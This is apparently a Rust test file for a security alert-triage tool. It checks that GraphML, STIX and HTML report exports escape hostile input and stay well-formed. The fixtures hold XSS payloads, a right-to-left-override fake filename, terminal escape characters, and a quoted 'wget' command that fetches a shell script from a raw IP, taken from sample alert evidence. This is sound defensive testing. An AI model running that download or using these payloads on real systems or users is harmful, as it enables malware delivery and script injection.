//! Exports of a real case (the msticpy alerts) and of hostile text.

use cb_domain::NodeId;
use cb_export::{graphml, html_report, stix_bundle, subgraph, Scope};
use cb_store::{Actor, AlertSort, SqliteStore};
use std::path::Path;

fn fixture(rel: &str) -> std::path::PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../../fixtures")
        .join(rel)
}

fn case() -> SqliteStore {
    let mut s = SqliteStore::in_memory(Actor("t".into())).unwrap();
    cb_api::import_file(
        &mut s,
        &fixture("msticpy/tests/testdata/localdata/alerts_list.jsonl"),
        &mut |_| true,
    )
    .unwrap();
    s
}

#[test]
fn graphml_has_every_alert_entity_and_relation_of_the_case() {
    let s = case();
    let g = subgraph(&s, Scope::Case).unwrap();
    let st = s.stats().unwrap();
    assert_eq!(g.nodes.len() as i64, st.alerts + st.incidents + st.entities);
    let xml = graphml(&g);
    assert_eq!(xml.matches("<node ").count(), g.nodes.len());
    assert_eq!(xml.matches("<edge ").count(), g.edges.len());
    // distinct (from, to, kind) relations + incident membership
    let distinct: i64 = s
        .conn()
        .query_row(
            "SELECT count(*) FROM (SELECT DISTINCT src, dst, kind FROM relations)",
            [],
            |r| r.get(0),
        )
        .unwrap();
    let members: usize = s.incidents().unwrap().iter().map(|i| i.alerts.len()).sum();
    assert_eq!(g.edges.len(), distinct as usize + members);
    assert!(xml.contains("<data key=\"kind\">host</data>"));
}

#[test]
fn stix_bundle_is_stable_and_references_what_it_holds() {
    let s = case();
    let a = stix_bundle(&s, Scope::Case, "2026-01-01T00:00:00.000Z").unwrap();
    let b = stix_bundle(&s, Scope::Case, "2026-01-01T00:00:00.000Z").unwrap();
    assert_eq!(a, b, "re-export gives the same ids");
    let objects = a["objects"].as_array().unwrap();
    let ids: std::collections::BTreeSet<&str> =
        objects.iter().map(|o| o["id"].as_str().unwrap()).collect();
    assert_eq!(ids.len(), objects.len(), "ids are unique");
    for o in objects {
        for k in ["source_ref", "target_ref"] {
            if let Some(r) = o.get(k) {
                assert!(ids.contains(r.as_str().unwrap()), "{k} dangles");
            }
        }
    }
    let ips = objects.iter().filter(|o| o["type"] == "ipv4-addr").count();
    assert_eq!(ips, 3);
    let incidents = objects.iter().filter(|o| o["type"] == "incident").count();
    assert_eq!(incidents, 25 + 1, "every alert and the one incident");
    let report = objects.iter().find(|o| o["type"] == "report").unwrap();
    assert_eq!(
        report["object_refs"].as_array().unwrap().len(),
        objects.len() - 1
    );
}

#[test]
fn html_report_escapes_evidence_and_loads_nothing() {
    let mut s = case();
    let alert = s
        .alerts(AlertSort::Time)
        .unwrap()
        .into_iter()
        .find(|a| a.name == "Detected suspicious file download")
        .unwrap();
    s.triage(
        &[alert.id],
        &cb_store::TriageChange {
            note: Some("<script>alert(1)</script> & <img src=x onerror=alert(2)>".into()),
            ..Default::default()
        },
    )
    .unwrap();
    let html = html_report(&s, alert.id, "2026-01-01T00:00:00.000Z").unwrap();
    assert!(html.contains("default-src 'none'"));
    assert!(!html.contains("<script"), "nothing executable");
    assert!(!html.contains("<img"));
    assert!(html.contains(
        "&lt;script&gt;alert(1)&lt;/script&gt; &amp; &lt;img src=x onerror=alert(2)&gt;"
    ));
    assert!(html.contains("Remediation steps"));
    assert!(html.contains("wget http://13.67.35.176/QuZYpObins.sh"));
    assert!(html_report(&s, NodeId::Entity(1), "x").is_err());
}

/// A case with hostile entities: an `ip` whose address is not one, labels with control
/// characters and a bidi override.
fn hostile_case() -> SqliteStore {
    use cb_domain::{EntityRecord, Sink, SinkError};
    let mut s = SqliteStore::in_memory(Actor("t".into())).unwrap();
    let meta = cb_store::SourceMeta {
        path: "hostile.jsonl".into(),
        sha256: "00".into(),
        size: 1,
        format: "test".into(),
    };
    s.import_source(
        &meta,
        &mut |_, _| true,
        &mut |sink: &mut dyn Sink| -> Result<(), SinkError> {
            let alert = cb_domain::AlertRecord {
                ext_id: "a1".into(),
                name: "alert \u{1}\u{8}\u{1b}[2J bell\u{7} \u{fffe}".into(),
                ..Default::default()
            };
            let a = sink.alert(&alert, &serde_json::Value::Null, 1)?;
            let bad = EntityRecord::new("ip").with("Address", "invoice\u{202e}gpj.exe\u{0}");
            let (bad, _) = sink.entity(&bad, None, 1)?;
            let good = EntityRecord::new("ip").with("Address", "2001:db8::1");
            let (good, _) = sink.entity(&good, None, 1)?;
            let host = EntityRecord::new("host").with("HostName", "h\u{3}st\u{1f}");
            let (host, _) = sink.entity(&host, None, 1)?;
            for e in [bad, good, host] {
                sink.relation(a, e, "involves", &Default::default(), 1)?;
            }
            Ok(())
        },
    )
    .unwrap();
    s
}

#[test]
fn graphml_of_control_characters_is_well_formed_xml() {
    let s = hostile_case();
    let xml = graphml(&subgraph(&s, Scope::Case).unwrap());
    // XML 1.0 Char: tab, newline, carriage return, and nothing else below U+0020; no U+FFFE/FFFF
    for c in xml.chars() {
        let n = c as u32;
        assert!(
            matches!(n, 0x9 | 0xA | 0xD)
                || (0x20..=0xD7FF).contains(&n)
                || (0xE000..=0xFFFD).contains(&n)
                || n >= 0x10000,
            "XML-illegal character U+{n:04X} in GraphML"
        );
    }
    assert!(xml.contains("[2J bell"), "the text around them is kept");
    // every element closes: a crude balance check of the tags
    assert_eq!(
        xml.matches("<node ").count(),
        xml.matches("</node>").count()
    );
    assert_eq!(
        xml.matches("<data ").count(),
        xml.matches("</data>").count()
    );
}

#[test]
fn an_ip_that_does_not_parse_is_exported_as_a_note_not_an_address() {
    let s = hostile_case();
    let b = stix_bundle(&s, Scope::Case, "2026-01-01T00:00:00.000Z").unwrap();
    let objects = b["objects"].as_array().unwrap();
    let addrs: Vec<&str> = objects
        .iter()
        .filter(|o| o["type"] == "ipv4-addr" || o["type"] == "ipv6-addr")
        .map(|o| o["value"].as_str().unwrap())
        .collect();
    assert_eq!(addrs, vec!["2001:db8::1"]);
    let v6 = objects.iter().find(|o| o["type"] == "ipv6-addr").unwrap();
    assert_eq!(v6["value"], "2001:db8::1");
    let notes: Vec<&serde_json::Value> = objects.iter().filter(|o| o["type"] == "note").collect();
    assert_eq!(notes.len(), 1);
    assert!(notes[0]["content"].as_str().unwrap().contains("gpj.exe"));
    let ids: std::collections::BTreeSet<&str> =
        objects.iter().map(|o| o["id"].as_str().unwrap()).collect();
    let refs = notes[0]["object_refs"].as_array().unwrap();
    assert!(
        refs.len() >= 2,
        "the alert's incident and the report: {refs:?}"
    );
    for r in refs {
        assert!(ids.contains(r.as_str().unwrap()), "{r} is in the bundle");
    }
}
